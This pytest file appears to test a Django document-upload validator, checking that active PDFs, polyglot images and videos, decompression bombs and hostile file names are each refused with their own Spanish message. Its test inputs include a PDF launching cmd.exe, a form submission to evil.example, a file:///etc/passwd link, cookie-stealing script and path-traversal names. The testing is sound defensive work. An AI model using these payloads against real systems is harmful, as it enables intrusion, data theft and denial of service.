"""Active PDFs, polyglots and bombs are refused at inspection, each with its own
Spanish reason; what real phones and the app's own forms produce still passes.

Every file is made by the test (reportlab, pypdf, Pillow, ffmpeg). No database.
"""

import io
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from ventanilla.documents.constants import DocumentKind
from ventanilla.documents.request_form import request_form_pdf
from ventanilla.documents.validation import MAX_PDF_PAGES, inspect_upload
from ventanilla.testing import case_media, factories, media

FORM = DocumentKind.REQUEST_FORM
PHOTO = DocumentKind.SELFIE


def inspect(kind: str, name: str, data: bytes):
    return inspect_upload(kind, SimpleUploadedFile(name, data))


def refusal(kind: str, name: str, data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        inspect(kind, name, data)
    return caught.value


# --- PDFs that run, launch or carry something --------------------------------------------


def _writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(media.pdf_bytes())))


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _annotation(writer: PdfWriter, subtype: str, **entries) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 72, 200, 100)]),
            **{NameObject(f"/{k}"): v for k, v in entries.items()},
        }
    )
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def pdf_with_javascript() -> bytes:
    writer = _writer()
    script = writer._add_object(_action("/JavaScript", JS="app.alert('hola');"))
    names = ArrayObject([TextStringObject("inicio"), script])
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )
    return _bytes(writer)


def pdf_opening_with_a_launch() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = _action("/Launch", F="cmd.exe")
    return _bytes(writer)


def pdf_opening_a_web_page() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = _action("/URI", URI="https://iess.example/")
    return _bytes(writer)


def pdf_opening_at_first_page() -> bytes:
    writer = _writer()
    destination = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer._root_object[NameObject("/OpenAction")] = destination
    return _bytes(writer)


def pdf_with_page_open_action() -> bytes:
    writer = _writer()
    destination = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    go_to = DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): destination})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): go_to})
    return _bytes(writer)


def pdf_with_link(action: DictionaryObject) -> bytes:
    writer = _writer()
    _annotation(writer, "/Link", A=action)
    return _bytes(writer)


def pdf_with_attachment() -> bytes:
    writer = _writer()
    writer.add_attachment("factura.exe", b"MZ not really a program")
    return _bytes(writer)


def pdf_with_file_attachment_annotation() -> bytes:
    writer = _writer()
    embedded = StreamObject()
    embedded.set_data(b"contenido adjunto")
    embedded[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("adjunto.txt"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)}),
        }
    )
    _annotation(writer, "/FileAttachment", FS=spec)
    return _bytes(writer)


def pdf_with_rich_media() -> bytes:
    writer = _writer()
    _annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())
    return _bytes(writer)


def pdf_with_xfa_form() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): TextStringObject("<xdp:xdp></xdp:xdp>"),
        }
    )
    return _bytes(writer)


ACTIVE_PDFS = {
    "JavaScript (names tree)": (pdf_with_javascript, "pdf_javascript", "JavaScript"),
    "OpenAction launching a program": (pdf_opening_with_a_launch, "pdf_action", "al abrirlo"),
    "OpenAction opening a web page": (pdf_opening_a_web_page, "pdf_action", "al abrirlo"),
    "page additional action (/AA)": (pdf_with_page_open_action, "pdf_action", "automáticas"),
    "link launching a program": (
        lambda: pdf_with_link(_action("/Launch", F="calc.exe")),
        "pdf_launch",
        "otros archivos o programas",
    ),
    "link to a local file (URI file:)": (
        lambda: pdf_with_link(_action("/URI", URI="file:///etc/passwd")),
        "pdf_launch",
        "otros archivos o programas",
    ),
    "link submitting the form": (
        lambda: pdf_with_link(_action("/SubmitForm", F="https://evil.example/")),
        "pdf_launch",
        "enviar datos",
    ),
    "link running JavaScript": (
        lambda: pdf_with_link(_action("/JavaScript", JS="app.alert(1)")),
        "pdf_javascript",
        "JavaScript",
    ),
    "embedded file (/EmbeddedFiles)": (pdf_with_attachment, "pdf_embedded_file", "adjuntos"),
    "file attachment annotation": (
        pdf_with_file_attachment_annotation,
        "pdf_embedded_file",
        "adjuntos",
    ),
    "RichMedia annotation": (pdf_with_rich_media, "pdf_rich_media", "multimedia"),
    "XFA form": (pdf_with_xfa_form, "pdf_rich_media", "XFA"),
}


@pytest.mark.parametrize("case", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_active_pdf_is_refused_with_its_own_reason(case):
    make, code, words = case
    error = refusal(FORM, "solicitud.pdf", make())
    assert error.code == code
    message = error.messages[0]
    assert "«solicitud.pdf»" in message
    assert words in message
    assert "Guardar como PDF" in message  # how to fix it


@pytest.mark.parametrize(
    "make",
    [
        pdf_opening_at_first_page,
        lambda: pdf_with_link(_action("/URI", URI="https://www.iess.gob.ec/")),
    ],
    ids=["OpenAction showing the first page", "link to a web page"],
)
def test_harmless_navigation_in_a_pdf_is_accepted(make):
    assert inspect(FORM, "solicitud.pdf", make()).details["page_count"] == 1


def test_the_apps_own_request_form_and_a_signed_one_still_pass():
    fields = factories.submission_fields()
    assert inspect(FORM, "solicitud.pdf", request_form_pdf(fields)).format == "pdf"
    # Signed with pyHanko (a signature field, its widget and an incremental update).
    assert inspect(FORM, "firmada.pdf", case_media.signed_form(fields)).format == "pdf"


# --- PDF bombs ------------------------------------------------------------------------------


def test_pdf_with_too_many_pages_is_refused_before_its_pages_are_read():
    error = refusal(FORM, "escaneo.pdf", media.pdf_bytes(pages=MAX_PDF_PAGES + 5))
    assert error.code == "too_many_pages"
    assert f"tiene {MAX_PDF_PAGES + 5} páginas" in error.messages[0]


def test_pdf_page_exploding_when_decompressed_is_refused():
    """60 MB of page content compressed to about 60 KB."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    stream = StreamObject()
    stream._data = zlib.compress(b" " * 60_000_000, 9)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    stream[NameObject("/Length")] = NumberObject(len(stream._data))
    page[NameObject("/Contents")] = writer._add_object(stream)
    data = _bytes(writer)
    assert len(data) < 200_000

    error = refusal(FORM, "bomba.pdf", data)

    assert error.code == "too_complex"


# --- polyglots --------------------------------------------------------------------------------


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("leeme.txt", "contenido escondido")
    return buffer.getvalue()


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
WINDOWS_PROGRAM = (
    b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\n$" + b"\x00" * 64
)
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def _jpeg_with_comment(payload: bytes) -> bytes:
    jpeg = media.jpeg_bytes()
    segment = b"\xff\xfe" + (len(payload) + 2).to_bytes(2, "big") + payload
    return jpeg[:2] + segment + jpeg[2:]


POLYGLOTS = {
    "JPEG + ZIP after its end": (PHOTO, "foto.jpg", lambda: media.jpeg_bytes() + _zip(), "ZIP"),
    "JPEG + PDF after its end": (
        PHOTO,
        "foto.jpg",
        lambda: media.jpeg_bytes() + media.pdf_bytes(),
        "PDF",
    ),
    "JPEG + HTML after its end": (PHOTO, "foto.jpg", lambda: media.jpeg_bytes() + HTML, "HTML"),
    "JPEG + Windows program after its end": (
        PHOTO,
        "foto.jpg",
        lambda: media.jpeg_bytes() + WINDOWS_PROGRAM,
        "programa de Windows",
    ),
    "JPEG + Linux program after its end": (
        PHOTO,
        "foto.jpg",
        lambda: media.jpeg_bytes() + LINUX_PROGRAM,
        "un programa",
    ),
    "JPEG + unknown data after its end": (
        PHOTO,
        "foto.jpg",
        lambda: media.jpeg_bytes() + bytes(range(1, 256)) * 8,
        "datos desconocidos",
    ),
    "JPEG with HTML in a comment segment": (
        PHOTO,
        "foto.jpg",
        lambda: _jpeg_with_comment(HTML),
        "escondido dentro",
    ),
    "JPEG with a PDF in a comment segment": (
        PHOTO,
        "foto.jpg",
        lambda: _jpeg_with_comment(media.pdf_bytes()[:60000]),
        "escondido dentro",
    ),
    "PDF whose header is not at the start (HTML before it)": (
        FORM,
        "solicitud.pdf",
        lambda: b"<html><body>hola</body></html>\n" + media.pdf_bytes(),
        "antes del documento PDF",
    ),
    "PDF that is also a ZIP": (FORM, "solicitud.pdf", lambda: media.pdf_bytes() + _zip(), "ZIP"),
    "PDF with a web page appended": (
        FORM,
        "solicitud.pdf",
        lambda: media.pdf_bytes() + HTML,
        "HTML",
    ),
    "MP4 + ZIP after its end": (
        DocumentKind.VIDEO,
        "video.mp4",
        lambda: media.mp4_bytes(seconds=2) + _zip(),
        "ZIP",
    ),
    "MP4 + HTML after its end": (
        DocumentKind.VIDEO,
        "video.mp4",
        lambda: media.mp4_bytes(seconds=2) + HTML,
        "HTML",
    ),
    "MP4 with a PDF inside a free box": (
        DocumentKind.VIDEO,
        "video.mp4",
        lambda: (
            media.mp4_bytes(seconds=2)
            + (len(media.pdf_bytes()) + 8).to_bytes(4, "big")
            + b"free"
            + media.pdf_bytes()
        ),
        "escondido dentro",
    ),
}


@pytest.mark.parametrize("case", POLYGLOTS.values(), ids=POLYGLOTS.keys())
def test_polyglot_is_refused(case):
    kind, name, make, words = case
    error = refusal(kind, name, make())
    assert error.code == "hidden_content"
    assert words in error.messages[0]
    assert "guárdelo o expórtelo de nuevo" in error.messages[0]


def test_motion_photo_with_its_mp4_after_the_picture_is_accepted():
    """Google and Xiaomi "motion photos" append the seconds around the shot as an MP4."""
    data = media.jpeg_bytes() + media.mp4_bytes(seconds=1)
    assert inspect(PHOTO, "PXL_20260101_motion.jpg", data).details["width"] == 800


def test_samsung_trailer_after_the_picture_is_accepted():
    trailer = b"\x00\x00\x00\x00SEFH" + b"\x01\x00\x00\x00" * 4 + b"\x20\x00\x00\x00SEFT"
    assert inspect(PHOTO, "20260101_120000.jpg", media.jpeg_bytes() + trailer).format == "jpeg"


def test_zero_padding_after_the_picture_is_accepted():
    assert inspect(PHOTO, "foto.jpg", media.jpeg_bytes() + b"\x00" * 512).format == "jpeg"


def test_multi_picture_jpeg_still_passes():
    assert inspect(PHOTO, "foto.jpg", media.mpo_bytes()).format == "jpeg"


# --- image and video bombs --------------------------------------------------------------------


def test_real_mostly_empty_huge_jpeg_is_refused_from_its_header():
    """A real 10,000 × 5,000 JPEG (50 megapixels) of one colour weighs a few hundred KB."""
    data = media.solid_jpeg_bytes(10_000, 5_000)
    assert len(data) < 2 * 1024 * 1024

    error = refusal(PHOTO, "foto.jpg", data)

    assert error.code == "too_many_pixels"
    assert "10000 × 5000" in error.messages[0].replace(".", "")


def test_png_bomb_is_refused_as_a_png_without_being_decoded():
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, format="PNG")  # 400 megapixels, ~50 KB
    error = refusal(PHOTO, "foto.jpg", buffer.getvalue())
    assert error.code == "wrong_type"
    assert "PNG" in error.messages[0]


def test_video_with_absurd_dimensions_is_refused_before_decoding():
    data = media.mp4_bytes(seconds=0.5, width=4800, height=2700)
    assert len(data) < 5 * 1024 * 1024

    error = refusal(DocumentKind.VIDEO, "video.mp4", data)

    assert error.code == "video_too_large"
    assert "4800 × 2700" in error.messages[0]


# --- file names are never paths ------------------------------------------------------------------

HOSTILE_NAMES = {
    "POSIX traversal": "../../etc/passwd",
    "Windows traversal": "..\\..\\x.jpg",
    "NUL byte": "foto\x00.php.jpg",
    "control characters": "fo\x1b[31mto\r\n\x07.jpg",
    "10,000 characters": "a" * 10_000 + ".jpg",
    "bidirectional override": "foto\u202egpj.exe",
}


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_hostile_file_name_only_reaches_the_message_printable_and_short(name):
    error = refusal(PHOTO, name, media.png_bytes())
    shown = error.params["name"]
    assert shown.isprintable()
    assert len(shown) <= 120
    assert "/" not in shown
